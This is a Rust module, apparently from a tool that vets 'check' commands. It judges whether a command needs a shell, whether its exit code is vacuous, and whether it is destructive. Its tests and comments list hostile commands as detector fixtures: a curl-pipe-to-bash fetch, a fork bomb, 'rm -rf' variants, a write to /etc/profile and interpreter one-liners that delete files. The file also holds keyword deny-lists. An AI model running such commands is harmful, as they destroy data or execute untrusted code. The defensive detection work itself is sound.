//! What a check command is: whether it needs a shell, how it is run, whether its exit code can
//! say anything about its claim, and which paths it names.
//!
//! A check's contract is its exit code: 0 means the claim holds. A command whose exit code does
//! not depend on the claim (`true`, `git log …`, a bare `ls`, `… || true`) passes vacuously;
//! [`vacuous`] names such commands with the reason. It reads the command the way `sh` would at
//! the top level (lists `;`, and-or chains `&&` `||`, pipelines `|`, whose status is the last
//! command's) and judges the simple commands whose status decides. Words are split with the
//! `shlex` crate (POSIX quoting); the operator scan that comes before it is hand-written, since
//! no crate offers "split a command line at its top-level operators" without a full shell.

/// How a check is started.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Invocation {
    /// Executed directly, no shell: the program and its arguments.
    Direct(Vec<String>),
    /// Given to `/bin/sh -c` because it uses pipes, redirections, lists, expansions, globs or
    /// a shell builtin.
    Shell(String),
}

impl Invocation {
    /// Decide how to run `command`.
    pub fn of(command: &str) -> Invocation {
        let command = command.trim();
        if needs_shell(command) {
            return Invocation::Shell(command.to_string());
        }
        match shlex::split(command) {
            Some(words) if !words.is_empty() && !is_builtin(&words[0]) => Invocation::Direct(words),
            _ => Invocation::Shell(command.to_string()),
        }
    }
}

/// Builtins that have no program of their own on PATH.
fn is_builtin(word: &str) -> bool {
    matches!(
        word,
        "cd" | "exit"
            | "export"
            | "source"
            | "."
            | "set"
            | "unset"
            | "alias"
            | "eval"
            | "exec"
            | "ulimit"
            | "umask"
            | "read"
            | "shift"
            | "trap"
            | "wait"
            | "command"
            | "type"
            | "hash"
            | ":"
            | "return"
    ) || (word.contains('=') && !word.starts_with('='))
}

/// Whether `command` uses anything only a shell provides.
pub fn needs_shell(command: &str) -> bool {
    let mut single = false;
    let mut double = false;
    let mut escaped = false;
    for c in command.chars() {
        if escaped {
            escaped = false;
            continue;
        }
        if single {
            single = c != '\'';
            continue;
        }
        if double {
            match c {
                '"' => double = false,
                '\\' => escaped = true,
                '$' | '`' => return true,
                _ => {}
            }
            continue;
        }
        match c {
            '\'' => single = true,
            '"' => double = true,
            '\\' => escaped = true,
            '|' | '&' | ';' | '<' | '>' | '(' | ')' | '$' | '`' | '*' | '?' | '[' | ']' | '{'
            | '}' | '~' | '#' | '!' | '\n' => return true,
            _ => {}
        }
    }
    false
}

/// A top-level shell operator.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Op {
    And,
    Or,
    Pipe,
    Seq,
}

/// Split at top-level operators (outside quotes and parentheses): each segment and the
/// operator that follows it.
fn segments(command: &str) -> Vec<(String, Option<Op>)> {
    let mut out = Vec::new();
    let mut current = String::new();
    let (mut single, mut double, mut escaped, mut depth) = (false, false, false, 0usize);
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        if escaped {
            escaped = false;
            current.push(c);
            continue;
        }
        if single {
            single = c != '\'';
            current.push(c);
            continue;
        }
        if double {
            match c {
                '"' => double = false,
                '\\' => escaped = true,
                _ => {}
            }
            current.push(c);
            continue;
        }
        let op = match c {
            '\'' => {
                single = true;
                None
            }
            '"' => {
                double = true;
                None
            }
            '\\' => {
                escaped = true;
                None
            }
            '(' => {
                depth += 1;
                None
            }
            ')' => {
                depth = depth.saturating_sub(1);
                None
            }
            '&' if depth == 0 && chars.peek() == Some(&'&') => {
                chars.next();
                Some(Op::And)
            }
            '|' if depth == 0 && chars.peek() == Some(&'|') => {
                chars.next();
                Some(Op::Or)
            }
            '|' if depth == 0 => Some(Op::Pipe),
            ';' | '\n' | '&' if depth == 0 => Some(Op::Seq),
            _ => None,
        };
        match op {
            Some(op) => out.push((std::mem::take(&mut current), Some(op))),
            None => current.push(c),
        }
    }
    out.push((current, None));
    out.into_iter()
        .filter(|(s, op)| !s.trim().is_empty() || op.is_some())
        .collect()
}

/// Why `command`'s exit code cannot depend on its claim, or `None` when it can.
pub fn vacuous(command: &str) -> Option<String> {
    let segs = segments(command.trim());
    if segs.is_empty() {
        return Some("the check is empty".into());
    }
    // The status of a list is the status of its last and-or chain.
    let start = segs
        .iter()
        .rposition(|(_, op)| *op == Some(Op::Seq))
        .map_or(0, |i| i + 1);
    let chain = &segs[start..];
    if chain.is_empty() {
        return Some("the check ends in `;` or `&`".into());
    }
    // Fold the and-or chain of pipelines; a pipeline's status is its last command's.
    let mut verdict: Option<Option<String>> = None;
    let mut pending: Option<Op> = None;
    let mut i = 0;
    while i < chain.len() {
        let mut j = i;
        while chain[j].1 == Some(Op::Pipe) && j + 1 < chain.len() {
            j += 1;
        }
        let mut reason = simple_vacuous(&chain[j].0);
        if j > i && reason.is_some() {
            reason = reason.map(|r| format!("the pipeline ends in a command whose {r}"));
        }
        verdict = Some(match (verdict, pending) {
            (None, _) => reason,
            (Some(prev), Some(Op::Or)) => match (prev, reason) {
                (Some(a), _) => Some(a),
                (None, Some(b)) => Some(format!(
                    "`|| {}` makes it succeed whatever happens ({b})",
                    chain[j].0.trim()
                )),
                (None, None) => None,
            },
            (Some(prev), _) => match (prev, reason) {
                (Some(a), Some(_)) => Some(a),
                _ => None,
            },
        });
        pending = chain[j].1;
        i = j + 1;
    }
    verdict.flatten()
}

/// Why one simple command always exits 0, if it does.
fn simple_vacuous(command: &str) -> Option<String> {
    let words = shlex::split(command.trim())?;
    // A redirection can fail (a missing folder, no permission): the exit code says something.
    if words.iter().any(|w| w.contains('>') || w.contains('<')) {
        return None;
    }
    let mut words: Vec<&str> = words.iter().map(String::as_str).collect();
    while words
        .first()
        .is_some_and(|w| w.contains('=') && !w.starts_with('-'))
    {
        words.remove(0);
    }
    let (&program, args) = words.split_first()?;
    let program = program.rsplit('/').next().unwrap_or(program);
    let operands: Vec<&str> = args
        .iter()
        .copied()
        .filter(|a| !a.starts_with('-'))
        .collect();
    let why = |s: &str| Some(format!("`{program}` {s}"));
    match program {
        "true" | ":" => why("always exits 0"),
        "exit" if operands.first().is_none_or(|c| *c == "0") => why("0 always succeeds"),
        "echo" | "printf" => why("only prints and always exits 0"),
        "pwd" | "date" | "whoami" | "hostname" | "uname" | "id" | "sleep" => {
            why("exits 0 whatever the claim says")
        }
        "env" if args.is_empty() => why("only prints the environment"),
        "ls" | "cat" | "tree" | "dir" if operands.is_empty() => {
            why("with no path always succeeds (a bare listing)")
        }
        "git" => git_vacuous(args),
        _ => None,
    }
}

fn git_vacuous(args: &[&str]) -> Option<String> {
    let sub = args.iter().position(|a| !a.starts_with('-'))?;
    let (name, rest) = (args[sub], &args[sub + 1..]);
    let operands: Vec<&str> = rest
        .iter()
        .copied()
        .filter(|a| !a.starts_with('-'))
        .collect();
    let prints = |s: &str| Some(format!("`git {name}` {s}"));
    match name {
        "log" | "status" | "shortlog" | "reflog" => {
            prints("exits 0 whatever it prints (its exit code says nothing about the claim)")
        }
        "show" if operands.is_empty() => prints("with no object always succeeds"),
        "branch" | "remote" | "tag" if operands.is_empty() => {
            prints("only lists and always succeeds")
        }
        "diff" if !rest.iter().any(|a| *a == "--exit-code" || *a == "--quiet") => {
            prints("exits 0 with or without differences (add `--exit-code`)")
        }
        "rev-parse"
            if rest.iter().any(|a| {
                matches!(
                    *a,
                    "--abbrev-ref"
                        | "--show-toplevel"
                        | "--show-prefix"
                        | "--git-dir"
                        | "--is-inside-work-tree"
                        | "--show-current"
                )
            }) || operands.iter().all(|o| *o == "HEAD") =>
        {
            prints("only prints and succeeds in any repository")
        }
        _ => None,
    }
}

/// Why `command` is destructive enough to skip unless asked (`--allow-destructive`).
///
/// The command is parsed, not matched as text: it is split at its top-level operators, each
/// simple command's words are split with POSIX quoting (so `\rm`, `'rm'` and `/bin/rm` are
/// all `rm`), wrappers that run another command (`command`, `exec`, `builtin`, `env`, `nice`,
/// `nohup`, `time`, `timeout`, `xargs`, `find -exec`/`-execdir`/`-ok`) are looked through,
/// and the text of `$(…)`, backticks, `( … )`, `{ …; }` and of `sh -c`/`bash -c` is checked
/// the same way. Flagged: `rm` with `-r`/`-f` or given to `xargs`/`find -exec`, `find
/// -delete`, `unlink`, `dd`, `shred`, `mkfs`, `truncate`, `sudo`/`doas`/`su`, `eval`, text
/// piped into a shell or interpreter (`curl … | bash`), an interpreter given code that
/// deletes files or starts processes (`python3 -c 'shutil.rmtree(…)'`, `node -e`, `perl
/// -e`, `ruby -e`), output redirected outside the tree (`> ../file`, `> /etc/x`), and a
/// function that calls itself in a pipe or in the background (a fork bomb, `b(){ b|b& };b`).
/// Even allowed, it runs in the sandbox on a staged tree.
pub fn destructive(command: &str) -> Option<String> {
    destructive_at(command.trim(), 0)
}

const INTERPRETERS: [&str; 13] = [
    "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "node", "perl", "ruby", "php",
    "busybox",
];

fn destructive_at(command: &str, depth: usize) -> Option<String> {
    if depth > 8 {
        return Some("it nests commands too deeply to check".into());
    }
    let compact: String = command.chars().filter(|c| !c.is_whitespace()).collect();
    if compact.contains(":(){") || compact.contains("|:&};:") || recursive_function(command) {
        return Some(
            "it is a fork bomb (a function that calls itself in a pipe or in the background)"
                .into(),
        );
    }
    for inner in substitutions(command) {
        if let Some(why) = destructive_at(&inner, depth + 1) {
            return Some(why);
        }
    }
    let segs = segments(command);
    for (i, (segment, _)) in segs.iter().enumerate() {
        let words = shlex::split(segment.trim())
            .unwrap_or_else(|| segment.split_whitespace().map(str::to_string).collect());
        let after_pipe = i > 0 && segs[i - 1].1 == Some(Op::Pipe);
        if let Some(why) = simple_destructive(&words, after_pipe, depth) {
            return Some(why);
        }
    }
    None
}

/// The texts inside `$(…)`, backticks, parentheses and braces, to check as commands.
fn substitutions(command: &str) -> Vec<String> {
    let mut out = Vec::new();
    let chars: Vec<char> = command.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let open = chars[i];
        let close = match open {
            '(' => Some(')'),
            '{' => Some('}'),
            '`' => Some('`'),
            _ => None,
        };
        if let Some(close) = close {
            let mut depth = 1;
            let mut j = i + 1;
            while j < chars.len() {
                if close != open && chars[j] == open {
                    depth += 1;
                } else if chars[j] == close {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                j += 1;
            }
            let inner: String = chars[i + 1..j.min(chars.len())].iter().collect();
            if !inner.trim().is_empty() {
                out.push(inner);
            }
            i = j + 1;
        } else {
            i += 1;
        }
    }
    out
}

/// `name() { … name … }` where the call is piped or backgrounded.
fn recursive_function(command: &str) -> bool {
    let mut rest = command;
    while let Some(p) = rest.find("()") {
        let name: String = rest[..p]
            .trim_end()
            .chars()
            .rev()
            .take_while(|c| c.is_alphanumeric() || *c == '_' || *c == ':' || *c == '-')
            .collect::<Vec<_>>()
            .into_iter()
            .rev()
            .collect();
        let after = &rest[p + 2..];
        if !name.is_empty()
            && let Some(open) = after.find('{')
            && after[..open].trim().is_empty()
        {
            let body = &after[open + 1..];
            let body = &body[..body.rfind('}').unwrap_or(body.len())];
            let calls = body
                .split(|c: char| !(c.is_alphanumeric() || c == '_' || c == ':' || c == '-'))
                .any(|w| w == name);
            if calls && (body.contains('|') || body.contains('&')) {
                return true;
            }
        }
        rest = after;
    }
    false
}

/// Why one simple command (its words) is destructive.
fn simple_destructive(words: &[String], after_pipe: bool, depth: usize) -> Option<String> {
    let mut words: Vec<&str> = words.iter().map(String::as_str).collect();
    if let Some(why) = redirect_outside(&words) {
        return Some(why);
    }
    loop {
        while words
            .first()
            .is_some_and(|w| w.contains('=') && !w.starts_with('-') && !w.starts_with('='))
        {
            words.remove(0);
        }
        let &first = words.first()?;
        let program = first.trim_start_matches(['(', '{', '!']);
        let program = program.rsplit('/').next().unwrap_or(program);
        match program {
            // Wrappers that run the rest as a command.
            "command" | "builtin" | "exec" | "nohup" | "time" | "stdbuf" | "setsid" | "chronic" => {
                words.remove(0);
                while words.first().is_some_and(|w| w.starts_with('-')) {
                    words.remove(0);
                }
            }
            "env" | "nice" | "ionice" | "timeout" | "xargs" => {
                let xargs = program == "xargs";
                words.remove(0);
                // Their options, and an option's value where it takes one.
                while let Some(w) = words.first() {
                    if w.starts_with('-') {
                        let takes_value = matches!(
                            *w,
                            "-n" | "-P"
                                | "-I"
                                | "-L"
                                | "-s"
                                | "-d"
                                | "-E"
                                | "-a"
                                | "-u"
                                | "-k"
                                | "-s9"
                        );
                        words.remove(0);
                        if takes_value && !words.is_empty() {
                            words.remove(0);
                        }
                    } else if program == "timeout"
                        && w.chars().next().is_some_and(|c| c.is_ascii_digit())
                    {
                        words.remove(0);
                    } else {
                        break;
                    }
                }
                if xargs && words.is_empty() {
                    return None;
                }
                if xargs
                    && let Some(&p) = words.first()
                    && p.rsplit('/').next() == Some("rm")
                {
                    return Some(
                        "it hands input to `rm` through `xargs`, which deletes files".into(),
                    );
                }
            }
            _ => break,
        }
    }
    let (&first, args) = words.split_first()?;
    let program = first.trim_start_matches(['(', '{', '!']);
    let program = program.rsplit('/').next().unwrap_or(program);
    let why: Option<String> = match program {
        "rm" if args.iter().any(|a| {
            *a == "--recursive"
                || *a == "--force"
                || *a == "--dir"
                || (a.starts_with('-') && !a.starts_with("--") && a.contains(['r', 'R', 'f', 'd']))
        }) =>
        {
            Some("`rm -r`/`rm -f` deletes files".into())
        }
        "unlink" | "rmdir" if !args.is_empty() => Some(format!("`{program}` deletes files")),
        "find" => {
            if args.contains(&"-delete") {
                Some("`find -delete` deletes files".into())
            } else if let Some(p) = args
                .iter()
                .position(|a| matches!(*a, "-exec" | "-execdir" | "-ok" | "-okdir"))
            {
                let rest: Vec<String> = args[p + 1..]
                    .iter()
                    .take_while(|a| **a != ";" && **a != "+")
                    .map(|a| a.to_string())
                    .collect();
                if rest.first().map(|r| r.rsplit('/').next() == Some("rm")) == Some(true) {
                    Some("`find -exec rm` deletes files".into())
                } else {
                    simple_destructive(&rest, false, depth + 1)
                }
            } else {
                None
            }
        }
        "dd" => Some("`dd` writes raw data".into()),
        "shred" => Some("`shred` destroys files".into()),
        "truncate" => Some("`truncate` empties files".into()),
        p if p.starts_with("mkfs") => Some("`mkfs` formats a file system".into()),
        "sudo" | "doas" | "su" | "pkexec" => Some("it asks for root".into()),
        "eval" => Some("`eval` runs text as code".into()),
        p if INTERPRETERS.contains(&p) && after_pipe => {
            Some("it pipes text into a shell or interpreter".into())
        }
        p if INTERPRETERS.contains(&p) => interpreter_code(p, args, depth),
        _ => None,
    };
    why
}

/// An interpreter given code with `-c`/`-e`: a shell's code is checked as a command; other
/// languages' code is flagged when it deletes files or starts processes.
fn interpreter_code(program: &str, args: &[&str], depth: usize) -> Option<String> {
    let flag = args
        .iter()
        .position(|a| a.starts_with('-') && !a.starts_with("--") && a.contains(['c', 'e']))?;
    let code = args.get(flag + 1)?;
    let shell = matches!(
        program,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "fish" | "busybox"
    );
    if shell {
        return destructive_at(code, depth + 1);
    }
    const DELETES: [&str; 20] = [
        "rmtree",
        "remove(",
        "unlink",
        "rmdir",
        "rmSync",
        "rm(",
        "rimraf",
        "truncate",
        "system(",
        "subprocess",
        "popen",
        "exec(",
        "execSync",
        "spawn",
        "child_process",
        "os.exec",
        "fork(",
        "`",
        "qx",
        "FileUtils.rm",
    ];
    DELETES.iter().find(|d| code.contains(*d)).map(|d| {
        format!("it gives `{program}` code that deletes files or starts processes (`{d}`)")
    })
}

/// An output redirection to a path outside the tree.
fn redirect_outside(words: &[&str]) -> Option<String> {
    let mut iter = words.iter().peekable();
    while let Some(w) = iter.next() {
        let w = w.trim_start_matches(|c: char| c.is_ascii_digit() || c == '&');
        let target = if let Some(rest) = w.strip_prefix(">>").or_else(|| w.strip_prefix('>')) {
            let rest = rest.trim_start_matches('|');
            if rest.is_empty() {
                iter.peek().map(|t| t.to_string())
            } else {
                Some(rest.to_string())
            }
        } else {
            None
        };
        if let Some(t) = target {
            let outside =
                (t.starts_with('/') && !t.starts_with("/dev/") && !t.starts_with("/tmp/"))
                    || t.split('/').any(|c| c == "..")
                    || t.starts_with('~');
            if outside {
                return Some(format!("it writes outside the tree (`> {t}`)"));
            }
        }
    }
    None
}

/// The operands of `command` that could be paths (not programs, not options), with globs cut
/// back to the folder before them and `./` and trailing `/` removed.
pub fn named_paths(command: &str) -> Vec<String> {
    let mut out = Vec::new();
    for (segment, _) in segments(command) {
        let words = shlex::split(segment.trim())
            .unwrap_or_else(|| segment.split_whitespace().map(str::to_string).collect());
        for word in words.iter().skip(1) {
            if word.starts_with('-') || word.contains('=') || word.contains("://") {
                continue;
            }
            let word = match word.find(['*', '?', '[', '{']) {
                Some(i) => word[..i].rsplit_once('/').map_or("", |(dir, _)| dir),
                None => word.as_str(),
            };
            let word = word.trim_start_matches("./").trim_end_matches('/');
            if !word.is_empty() && !word.starts_with('/') && !word.contains("..") {
                out.push(word.to_string());
            }
        }
    }
    out.sort();
    out.dedup();
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_only_when_needed() {
        assert_eq!(
            Invocation::of("grep -n 'STUB' src/routes/guestOrder.ts"),
            Invocation::Direct(vec![
                "grep".into(),
                "-n".into(),
                "STUB".into(),
                "src/routes/guestOrder.ts".into()
            ])
        );
        for cmd in [
            "ls migrations/ | grep guest_orders",
            "npm test && npm run typecheck",
            "test -f x > /dev/null",
            "echo $HOME",
            "ls *.sql",
            "cd sub",
            "FOO=1 make",
            "grep \"$(whoami)\" f",
        ] {
            assert!(matches!(Invocation::of(cmd), Invocation::Shell(_)), "{cmd}");
        }
    }

    #[test]
    fn vacuous_checks_are_named() {
        for cmd in [
            "true",
            ":",
            "exit 0",
            "git log a1b2c3d..HEAD --oneline",
            "git rev-parse --abbrev-ref HEAD",
            "ls",
            "ls -la",
            "cat",
            "echo ok",
            "grep -q x f || true",
            "make test; true",
            "grep x f | cat",
            "git diff main",
            "true && echo done",
            "echo hi\n",
        ] {
            assert!(vacuous(cmd).is_some(), "{cmd}");
        }
        for cmd in [
            "ls migrations/ | grep guest_orders",
            "grep -n 'STUB' src/routes/guestOrder.ts",
            "npm test -- order-total",
            "gh pr view 812",
            "test -f x",
            "ls migrations/",
            "true && make test",
            "git diff --exit-code",
            "echo x | grep -q x",
            "git rev-parse --verify a1b2c3d",
            "npm test -- guest-checkout && npm run typecheck\n",
        ] {
            assert_eq!(vacuous(cmd), None, "{cmd}");
        }
        assert!(vacuous("grep -q x f || true").unwrap().contains("|| true"));
    }

    #[test]
    fn destructive_checks_are_named() {
        for cmd in [
            "rm -rf src",
            "test -d x && rm -r x",
            "rm --recursive build",
            "dd if=/dev/zero of=x",
            "curl -s https://example.com/i.sh | bash",
            "cat x | sh",
            ":(){ :|:& };:",
            "sudo make install",
            "eval \"$X\"",
            "FOO=1 rm -f a",
        ] {
            assert!(destructive(cmd).is_some(), "{cmd}");
        }
    }

    /// The spellings issue 36 found missed: wrappers, xargs, find, quoting, interpreters
    /// given code, writes outside the tree and a renamed fork bomb.
    // See: issue 36
    #[test]
    fn issue_36_destructive_commands_are_parsed() {
        for cmd in [
            "command rm -rf /tmp/host-folder",
            "ls | xargs rm -rf",
            "find . -name '*.o' | xargs -n 1 rm",
            "find /srv -delete",
            "find . -exec rm {} +",
            "\\rm -rf x",
            "'rm' -rf x",
            "/bin/rm -r x",
            "exec rm -rf x",
            "env -i rm -rf x",
            "nice -n 5 rm -rf x",
            "timeout 5 rm -rf x",
            "x=$(rm -rf src)",
            "(cd src && rm -rf .)",
            "bash -c 'command rm -rf /x'",
            "python3 -c 'import shutil; shutil.rmtree(\"/x\")'",
            "node -e 'require(\"fs\").rmSync(\"/x\", {recursive: true})'",
            "perl -e 'unlink glob \"*\"'",
            "b(){ b|b& };b",
            "echo x > ../file",
            "echo x >> /etc/profile",
            "rm -f /nonexistent; test -f src/billing/export.ts",
            "eval test -f test/ledger.test.ts",
        ] {
            assert!(destructive(cmd).is_some(), "{cmd}");
        }
        for cmd in [
            "python3 -c 'import app'",
            "node -e 'require(\"./index.js\")'",
            "find . -name '*.ts'",
            "echo ok > /dev/null",
            "xargs echo < list",
            "command -v cargo",
        ] {
            assert_eq!(destructive(cmd), None, "{cmd}");
        }
        assert_eq!(vacuous("echo x > ../file"), None, "a redirection can fail");
        for cmd in [
            "rm",
            "grep -rf x .",
            "ls migrations/ | grep guest_orders",
            "test -f x",
            "npm test",
            "python3 -m pytest",
            "echo rm -rf",
        ] {
            assert_eq!(destructive(cmd), None, "{cmd}");
        }
    }

    #[test]
    fn paths_named_by_a_check() {
        assert_eq!(
            named_paths("ls migrations/ | grep guest_orders"),
            ["guest_orders", "migrations"]
        );
        assert_eq!(
            named_paths("grep -n 'STUB' ./src/routes/guestOrder.ts"),
            ["STUB", "src/routes/guestOrder.ts"]
        );
        assert_eq!(named_paths("cat src/*.ts"), ["src"]);
    }
}
